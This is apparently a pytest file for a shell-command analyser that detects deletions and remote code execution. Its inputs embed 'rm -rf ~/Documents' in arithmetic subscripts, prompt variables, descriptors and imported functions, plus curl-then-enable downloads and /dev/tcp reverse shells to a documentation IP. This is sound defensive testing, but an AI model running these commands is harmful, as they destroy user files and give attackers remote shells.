"""Mechanisms blind-shell-20's first run missed (policies/README.md, "Twentieth batch"): the effects they now have,
and the everyday look-alikes that keep none."""

from __future__ import annotations

from pathlib import Path

import pytest
from effect_support import HOME, analysed, ops

# --- text the running shell evaluates later: prompt variables and subscripts in arithmetic (shell/evaluated.py) ---


@pytest.mark.parametrize(
    "command",
    [
        "x='a[$(rm -rf ~/Documents)]'; echo $(( x ))",
        "n='y[$(rm -rf ~/Documents)]'; [[ $n -gt 0 ]]",
        "declare -i total; total='z[$(rm -rf ~/Documents)]'",
        "let 'n=q[$(rm -rf ~/Documents)]'",
        "i='arr[`rm -rf ~/Documents`]'; (( i++ ))",  # backticks in the subscript too
        "PS4='+$(rm -rf ~/Documents) '; set -x; ls",  # expanded before each traced command
        "PROMPT_COMMAND='rm -rf ~/Documents'",  # the running shell's own, run before a prompt
    ],
)
def test_a_value_the_shell_evaluates_later_runs_its_substitution(command: str, tmp_path: Path) -> None:
    assert f"{HOME}/Documents" in [e["path"] for e in ops(command, tmp_path, "delete")]


@pytest.mark.parametrize(
    "command",
    [
        "count=0; (( count++ )); echo $(( count * 2 ))",
        "files=(src/*.c); echo $(( ${#files[@]} - 1 ))",
        "PS4='+ $(date +%T) ${BASH_SOURCE:-}:${LINENO}: '; set -x; ls",
        "let 'n = 3 * 4'",
        "msg='see [docs] for $(details)'",  # brackets and a substitution, but no subscript holding it
    ],
)
def test_everyday_arithmetic_and_traces_delete_nothing(command: str, tmp_path: Path) -> None:
    assert not ops(command, tmp_path, "delete")


# --- a descriptor named as a file runs what exec put on it (shell/stdin.descriptor_script) ---


@pytest.mark.parametrize(
    "command",
    [
        "exec 3<<'EOF'\nrm -rf ~/Documents\nEOF\nbash /dev/fd/3",
        "exec 4<<< 'rm -rf ~/Documents'; source /proc/self/fd/4",
        "exec {fd}< <(printf '%s\\n' 'rm -rf ~/Documents'); source /proc/self/fd/$fd",
        "exec {fd}< <(printf '%s\\n' 'rm -rf ~/Documents'); . /dev/fd/${fd}",
    ],
)
def test_a_shell_given_a_descriptor_file_runs_its_text(command: str, tmp_path: Path) -> None:
    assert f"{HOME}/Documents" in [e["path"] for e in ops(command, tmp_path, "delete")]


def test_a_descriptor_read_by_a_loop_runs_nothing(tmp_path: Path) -> None:
    command = 'exec 3< requirements.txt; while read -r -u 3 pkg; do echo "$pkg"; done; exec 3<&-'
    assert not ops(command, tmp_path, "exec")


# --- every shell the effect model knows has its -c walked (shell/wrappers._SHELLS) ---


@pytest.mark.parametrize("shell", ["tcsh -fc", "csh -c", "yash -c", "posh -c"])
def test_each_known_shell_runs_its_c_string(shell: str, tmp_path: Path) -> None:
    argvs, _ = analysed(f"{shell} 'rm -rf ~/Documents'", tmp_path)
    assert ["rm", "-rf", f"{HOME}/Documents"] in argvs
    assert f"{HOME}/Documents" in [e["path"] for e in ops(f"{shell} 'rm -rf ~/Documents'", tmp_path, "delete")]


# --- shells whose -c is another language: xonsh (Python), elvish (its own table) ---


def test_xonsh_c_is_read_as_python(tmp_path: Path) -> None:
    command = "xonsh -c 'import shutil, os; shutil.rmtree(os.path.expanduser(\"~/Documents\"))'"
    assert f"{HOME}/Documents" in [e["path"] for e in ops(command, tmp_path, "delete")]
    assert [e["known"] for e in ops("xonsh -c 'print(1 + 1)'", tmp_path, "exec")] == [True]


@pytest.mark.parametrize(
    ("command", "known"),
    [
        ("elvish -c 'use os; os:remove-all ~/Documents'", False),
        ("elvish -c 'rm -rf ~/Documents'", False),  # an external command: not followed
        ("elvish -c 'echo (+ 1 2)'", True),
        ("elvish -c 'put (str:to-upper abc) | each {|x| echo $x }'", True),
    ],
)
def test_elvish_code_is_known_only_when_it_computes_and_prints(command: str, known: bool, tmp_path: Path) -> None:
    assert [e["known"] for e in ops(command, tmp_path, "exec")] == [known]


# --- enable -f loads a shared object into the shell (programs.json `enable`) ---


def test_enable_f_runs_the_object_the_line_downloaded(tmp_path: Path) -> None:
    command = "curl -fsSLo /tmp/libx.so https://x.example/libx.so && enable -f /tmp/libx.so x"
    execs = [e for e in ops(command, tmp_path, "exec") if e["program"] == "enable"]
    assert [(e["path"], e.get("flow")) for e in execs] == [("/tmp/libx.so", "fetch")]


def test_enable_of_a_builtin_name_runs_nothing(tmp_path: Path) -> None:
    assert not ops("enable -n kill", tmp_path, "exec")


# --- env puts any NAME=VALUE in the environment; bash imports BASH_FUNC_NAME%% as a function ---


@pytest.mark.parametrize(
    "command",
    [
        "env 'BASH_FUNC_ls%%=() { rm -rf ~/Documents; }' bash -c ls",
        "env -i 'BASH_FUNC_git%%=() { rm -rf ~/Documents; }' bash -c 'git status'",
    ],
)
def test_a_function_imported_from_the_environment_is_walked(command: str, tmp_path: Path) -> None:
    assert f"{HOME}/Documents" in [e["path"] for e in ops(command, tmp_path, "delete")]


def test_env_assignments_stay_assignments(tmp_path: Path) -> None:
    argvs, _ = analysed("env 'A.B=1' FOO=bar make -j4", tmp_path)
    assert argvs == [["make", "-j4"]]


# --- programs whose arguments are shell commands: pee, mispipe (programs.json operand hooks) ---


@pytest.mark.parametrize("command", ["echo | pee 'rm -rf ~/Documents' cat", "mispipe 'rm -rf ~/Documents' 'tee log'"])
def test_each_argument_is_a_command_walked_as_itself(command: str, tmp_path: Path) -> None:
    assert f"{HOME}/Documents" in [e["path"] for e in ops(command, tmp_path, "delete")]


def test_checksums_through_pee_are_known_commands(tmp_path: Path) -> None:
    argvs, found = analysed("pee sha256sum 'wc -c' < dist/app.tar.gz", tmp_path)
    assert ["wc", "-c"] in argvs and ["sha256sum"] in argvs
    assert all(e["known"] for e in found if e["op"] == "exec")


# --- /dev/tcp and /dev/udp are connections the shell opens, not device files ---


@pytest.mark.parametrize(
    "command",
    [
        "exec 5<>/dev/tcp/198.51.100.7/4444; bash <&5 >&5 2>&5",  # the reverse shell
        "bash < /dev/tcp/198.51.100.7/80",
        "exec 3</dev/udp/198.51.100.7/53; sh <&3",
        "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",  # its stdin the connection duplicated
        "sh -i 2>&1 >/dev/tcp/198.51.100.7/4444 <&1",
    ],
)
def test_a_shell_reading_a_connection_runs_fetched_code(command: str, tmp_path: Path) -> None:
    assert [e.get("flow") for e in ops(command, tmp_path, "exec") if not e["known"]] == ["fetch"]


def test_a_loopback_health_check_writes_no_device(tmp_path: Path) -> None:
    command = "exec 4<>/dev/tcp/127.0.0.1/8080 && printf 'GET /health HTTP/1.0\\r\\n\\r\\n' >&4 && cat <&4"
    found = [e["op"] for e in analysed(command, tmp_path)[1]]
    assert found == ["send"]


def test_a_shell_whose_output_only_goes_to_a_connection_runs_nothing_fetched(tmp_path: Path) -> None:
    assert not [e for e in ops("bash -c 'make' > /dev/tcp/127.0.0.1/9000", tmp_path, "exec") if not e["known"]]


# --- zsh/files' builtins under their zf_ names (programs.json `prefixes`; zshmodules(1), "THE ZSH/FILES MODULE") ---


@pytest.mark.parametrize(("name", "op"), [("zf_rm -rf", "delete"), ("zf_chmod -R 777", "chmod")])
def test_zsh_files_builtins_are_the_programs_they_stand_for(name: str, op: str, tmp_path: Path) -> None:
    command = f"zsh -c 'zmodload zsh/files && {name} ~/Documents'"
    assert f"{HOME}/Documents" in [e["path"] for e in ops(command, tmp_path, op)]
